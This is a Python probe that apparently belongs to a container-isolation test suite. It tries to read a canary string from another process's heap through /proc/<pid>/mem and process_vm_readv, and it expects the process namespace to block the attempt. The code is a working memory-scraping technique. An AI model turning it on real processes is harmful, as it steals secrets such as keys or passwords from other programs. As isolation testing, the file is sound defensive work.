"""Read a secret in the memory of a host's process through /proc and by process_vm_readv.

kind: secrets
stopped by: process namespace
"""

import ctypes
import os
import re

from attacker import TOLD, call, look

pid, CANARY = TOLD["victim"], re.compile(rb"canary-[0-9a-f]{24}")


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def places() -> list[tuple[int, int]]:
    """The writable anonymous memory of the process."""
    with open(f"/proc/{pid}/maps") as file:
        lines = [line.split() for line in file]
    found = [line[0] for line in lines if line[1].startswith("rw") and (len(line) < 6 or line[5] == "[heap]")]
    return [(int(a, 16), int(b, 16)) for a, b in (place.split("-") for place in found)]


def by_proc() -> set[bytes]:
    found: set[bytes] = set()
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for start, end in places():
            memory.seek(start)
            found.update(CANARY.findall(memory.read(end - start)))
    return found


def by_call() -> set[bytes]:
    found: set[bytes] = set()
    for start, end in places():
        buffer = ctypes.create_string_buffer(end - start)
        here, there = Piece(ctypes.addressof(buffer), end - start), Piece(start, end - start)
        call("process_vm_readv", pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        found.update(CANARY.findall(buffer.raw))
    return found


def blind() -> int:
    """Without a map, at a guess: the errno tells whether the process can be reached at all."""
    here, there = Piece(ctypes.addressof(ctypes.create_string_buffer(8)), 8), Piece(0x400000, 8)
    return call("process_vm_readv", pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)


look(f"read /proc/{pid}/mem", by_proc)
look(f"process_vm_readv of {pid}", by_call if os.path.exists(f"/proc/{pid}/maps") else blind)
